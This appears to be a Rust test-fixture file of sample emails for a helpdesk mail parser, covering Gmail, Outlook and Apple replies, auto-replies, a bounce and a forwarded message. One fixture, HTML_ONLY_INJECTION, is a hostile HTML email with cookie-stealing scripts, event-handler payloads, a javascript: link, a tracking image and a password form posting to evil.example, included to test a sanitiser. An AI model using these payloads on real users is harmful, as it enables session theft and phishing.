//! Realistic messages as the common clients write them (trimmed to what matters).

/// Gmail answering one of our notifications: text and HTML, quotes in both.
pub const GMAIL_REPLY: &str = "Return-Path: <jane.doe@gmail.com>\r
MIME-Version: 1.0\r
Date: Tue, 7 Jan 2025 09:15:02 +0100\r
References: <first@mail.gmail.com> <Xk3b9Q2mZ1nR7tP0aB4cD5eF.IT-42@support.example.com>\r
In-Reply-To: <Xk3b9Q2mZ1nR7tP0aB4cD5eF.IT-42@support.example.com>\r
Message-ID: <CAJ8x+reply1@mail.gmail.com>\r
Subject: Re: [IT-42] Printer on floor 2\r
From: Jane Doe <jane.doe@gmail.com>\r
To: \"ACME Support\" <support@example.com>\r
Cc: bob@example.org\r
Content-Type: multipart/alternative; boundary=\"000000000000a1b2c3\"\r
\r
--000000000000a1b2c3\r
Content-Type: text/plain; charset=\"UTF-8\"\r
\r
It works again, thanks!\r
\r
On Mon, Jan 6, 2025 at 5:02 PM ACME Support <support@example.com> wrote:\r
\r
> Please turn it off and on again.\r
>\r
> --\r
> ACME Support\r
>\r
--000000000000a1b2c3\r
Content-Type: text/html; charset=\"UTF-8\"\r
\r
<div dir=\"ltr\">It works again, thanks!</div><br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Mon, Jan 6, 2025 at 5:02 PM ACME Support &lt;<a href=\"mailto:support@example.com\">support@example.com</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex\">Please turn it off and on again.</blockquote></div>\r
--000000000000a1b2c3--\r
";

/// Outlook: quoted-printable windows-1252, the underscore rule and header block.
pub const OUTLOOK_REPLY: &str = "From: =?windows-1252?Q?J=FCrgen_M=FCller?= <j.mueller@contoso.de>\r
To: ACME Support <support@example.com>\r
Subject: AW: [IT-42] Drucker im 2. Stock\r
Date: Tue, 7 Jan 2025 08:01:00 +0000\r
Message-ID: <AM0PR01MB1234ABCD@AM0PR01MB1234.eurprd01.prod.outlook.com>\r
In-Reply-To: <Xk3b9Q2mZ1nR7tP0aB4cD5eF.IT-42@support.example.com>\r
Content-Type: multipart/alternative; boundary=\"_000_AM0PR01MB_\"\r
MIME-Version: 1.0\r
\r
--_000_AM0PR01MB_\r
Content-Type: text/plain; charset=\"windows-1252\"\r
Content-Transfer-Encoding: quoted-printable\r
\r
Hallo,\r
\r
der Drucker druckt wieder. Gr=FC=DFe\r
J=FCrgen\r
\r
________________________________\r
Von: ACME Support <support@example.com>\r
Gesendet: Montag, 6. Januar 2025 17:02\r
An: J=FCrgen M=FCller <j.mueller@contoso.de>\r
Betreff: [IT-42] Drucker im 2. Stock\r
\r
Bitte aus- und wieder einschalten.\r
\r
--_000_AM0PR01MB_\r
Content-Type: text/html; charset=\"windows-1252\"\r
Content-Transfer-Encoding: quoted-printable\r
\r
<html><head><style>p {margin:0}</style></head><body><p>Hallo,</p><p>der Drucker druckt wieder. Gr=FC=DFe</p><div id=3D\"divRplyFwdMsg\"><hr><b>Von:</b> ACME Support</div></body></html>\r
--_000_AM0PR01MB_--\r
";

/// Apple Mail from an iPhone: plain text only, its attribution and footer.
pub const APPLE_REPLY: &str = "Content-Type: text/plain; charset=utf-8\r
Content-Transfer-Encoding: quoted-printable\r
Mime-Version: 1.0 (1.0)\r
Subject: Re: [IT-42] Printer on floor 2\r
From: Tim <tim@icloud.com>\r
In-Reply-To: <Xk3b9Q2mZ1nR7tP0aB4cD5eF.IT-42@support.example.com>\r
Date: Tue, 7 Jan 2025 10:30:00 +0100\r
To: support@example.com\r
Message-Id: <5F1C2D3E-AAAA-BBBB-CCCC-0123456789AB@icloud.com>\r
\r
Still broken, the display says =E2=80=9CPC LOAD LETTER=E2=80=9D.\r
\r
Sent from my iPhone\r
\r
> On 6 Jan 2025, at 17:02, ACME Support <support@example.com> wrote:\r
>=20\r
> =EF=BB=BFPlease turn it off and on again.\r
";

/// An HTML-only message that tries everything a sanitiser must stop.
pub const HTML_ONLY_INJECTION: &str = "From: attacker@evil.example\r
To: support@example.com\r
Subject: Invoice\r
Message-ID: <evil1@evil.example>\r
MIME-Version: 1.0\r
Content-Type: text/html; charset=utf-8\r
\r
<html><head><style>body{background:url(https://evil.example/bg)}</style><script>steal(document.cookie)</script></head>\r
<body onload=\"steal()\"><p style=\"position:fixed\">Please pay <a href=\"javascript:steal()\">here</a> or <a href=\"https://pay.example/inv/1\">there</a>.</p>\r
<img src=\"https://evil.example/track.gif?u=1\" alt=\"tracker\" onerror=\"steal()\"><iframe src=\"https://evil.example\"></iframe>\r
<svg onload=\"steal()\"><script>steal()</script></svg><form action=\"https://evil.example\"><input name=\"password\"></form></body></html>\r
";

/// HTML with an inline image (multipart/related, cid:) and a text alternative.
pub const INLINE_IMAGE: &str = "From: Ann <ann@example.org>\r
To: support@example.com\r
Subject: Screenshot of the error\r
Message-ID: <inline1@example.org>\r
MIME-Version: 1.0\r
Content-Type: multipart/related; boundary=\"rel\"\r
\r
--rel\r
Content-Type: multipart/alternative; boundary=\"alt\"\r
\r
--alt\r
Content-Type: text/plain; charset=us-ascii\r
\r
See the screenshot.\r
--alt\r
Content-Type: text/html; charset=us-ascii\r
\r
<p>See the screenshot:</p><img src=\"cid:shot1@example.org\" alt=\"screenshot\">\r
--alt--\r
--rel\r
Content-Type: image/png; name=\"shot.png\"\r
Content-Transfer-Encoding: base64\r
Content-ID: <shot1@example.org>\r
Content-Disposition: inline; filename=\"shot.png\"\r
\r
iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\r
--rel--\r
";

/// A colleague forwarding a customer's mail as an attachment.
pub const FORWARDED_AS_ATTACHMENT: &str = "From: Bob <bob@example.org>\r
To: support@example.com\r
Subject: Fwd: Broken laptop\r
Message-ID: <fwd1@example.org>\r
MIME-Version: 1.0\r
Content-Type: multipart/mixed; boundary=\"mix\"\r
\r
--mix\r
Content-Type: text/plain\r
\r
See below.\r
--mix\r
Content-Type: message/rfc822\r
Content-Disposition: attachment\r
\r
From: Customer <c@customer.example>\r
To: bob@example.org\r
Subject: Broken laptop\r
Message-ID: <orig1@customer.example>\r
Content-Type: multipart/mixed; boundary=\"inner\"\r
\r
--inner\r
Content-Type: text/plain\r
\r
My laptop does not boot.\r
--inner\r
Content-Type: text/plain; name=\"log.txt\"\r
Content-Disposition: attachment; filename=\"log.txt\"\r
\r
boot failed\r
--inner--\r
--mix--\r
";

/// A Gmail vacation responder.
pub const VACATION_REPLY: &str = "Return-Path: <>\r
Auto-Submitted: auto-replied\r
From: Jane Doe <jane.doe@gmail.com>\r
To: support@example.com\r
Subject: Out of office\r
Message-ID: <vacation1@mail.gmail.com>\r
In-Reply-To: <Xk3b9Q2mZ1nR7tP0aB4cD5eF.IT-42@support.example.com>\r
Content-Type: text/plain; charset=UTF-8\r
\r
I am away until Monday.\r
";

/// Exchange's out-of-office answer.
pub const EXCHANGE_AUTO_REPLY: &str =
    "From: =?iso-8859-1?Q?J=FCrgen_M=FCller?= <j.mueller@contoso.de>\r
To: ACME Support <support@example.com>\r
Subject: Automatische Antwort: [IT-42] Drucker im 2. Stock\r
Thread-Topic: [IT-42] Drucker im 2. Stock\r
Date: Tue, 7 Jan 2025 08:01:00 +0000\r
Message-ID: <oof1@AM0PR01MB1234.eurprd01.prod.outlook.com>\r
Auto-Submitted: auto-generated\r
X-Auto-Response-Suppress: All\r
X-MS-Exchange-Inbox-Rules-Loop: j.mueller@contoso.de\r
Content-Type: text/plain; charset=\"iso-8859-1\"\r
MIME-Version: 1.0\r
\r
Ich bin bis 10. Januar nicht im B=FCro.\r
";

/// A delivery status notification (RFC 3464) for one of our notifications.
pub const DSN_BOUNCE: &str = "Return-Path: <>\r
From: Mail Delivery System <MAILER-DAEMON@mx.example.com>\r
To: support@example.com\r
Subject: Undelivered Mail Returned to Sender\r
Message-ID: <20250107081500.ABC123@mx.example.com>\r
Auto-Submitted: auto-replied\r
MIME-Version: 1.0\r
Content-Type: multipart/report; report-type=delivery-status; boundary=\"dsn\"\r
\r
--dsn\r
Content-Description: Notification\r
Content-Type: text/plain; charset=us-ascii\r
\r
This is the mail system at host mx.example.com.\r
I'm sorry to have to inform you that your message could not be delivered.\r
\r
<nobody@customer.example>: host mx.customer.example said: 550 5.1.1 User unknown\r
--dsn\r
Content-Description: Delivery report\r
Content-Type: message/delivery-status\r
\r
Reporting-MTA: dns; mx.example.com\r
Arrival-Date: Tue,  7 Jan 2025 08:14:59 +0000 (UTC)\r
\r
Final-Recipient: rfc822; nobody@customer.example\r
Original-Recipient: rfc822;nobody@customer.example\r
Action: failed\r
Status: 5.1.1\r
Diagnostic-Code: smtp; 550 5.1.1 User unknown\r
--dsn\r
Content-Description: Undelivered Message Headers\r
Content-Type: text/rfc822-headers\r
\r
From: ACME Support <support@example.com>\r
To: nobody@customer.example\r
Subject: [IT-42] Printer on floor 2\r
Message-ID: <Xk3b9Q2mZ1nR7tP0aB4cD5eF.IT-42@support.example.com>\r
--dsn--\r
";

/// A newsletter from a mailing list.
pub const MAILING_LIST: &str = "From: Vendor News <news@vendor.example>\r
To: support@example.com\r
Subject: Our spring release\r
Message-ID: <news1@vendor.example>\r
List-Id: Vendor announcements <announce.vendor.example>\r
List-Unsubscribe: <https://vendor.example/unsub?u=1>, <mailto:unsub@vendor.example>\r
Precedence: list\r
Content-Type: text/plain\r
\r
New features!\r
";
